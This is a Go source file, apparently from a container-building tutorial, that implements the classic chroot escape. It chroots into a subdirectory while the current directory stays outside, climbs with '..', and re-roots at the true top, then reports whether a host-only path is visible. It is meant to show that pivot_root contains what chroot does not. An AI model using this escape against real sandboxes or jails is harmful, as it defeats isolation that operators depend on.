//go:build linux

// chroot-escape: the classic way out of a chroot, for the step03 chapter.
//
// chroot(2) changes only where "/" resolves for path lookups; it does not move
// the current directory. A process with CAP_SYS_CHROOT can chroot into a
// subdirectory while its cwd stays above it, then walk up with ".." past the
// old root, and chroot(".") at the real top. Under pivot_root there is nothing
// above the container's root in its mount namespace, so the walk ends there.
//
//	chroot-escape PATH   # prints "escaped: PATH exists" or "contained: ..."
//
// Build it static (CGO_ENABLED=0) and copy it into the rootfs.
package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: chroot-escape PATH-THAT-ONLY-THE-HOST-HAS")
		os.Exit(2)
	}
	must(os.MkdirAll("/.escape", 0700))
	must(unix.Chroot("/.escape")) // cwd is now outside our root
	for i := 0; i < 64; i++ {     // ".." at the real / stays at /
		must(unix.Chdir(".."))
	}
	must(unix.Chroot("."))
	if _, err := os.Stat(os.Args[1]); err == nil {
		fmt.Printf("escaped: %s exists\n", os.Args[1])
		return
	}
	fmt.Printf("contained: %s not found\n", os.Args[1])
}

func must(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, "chroot-escape:", err)
		os.Exit(1)
	}
}
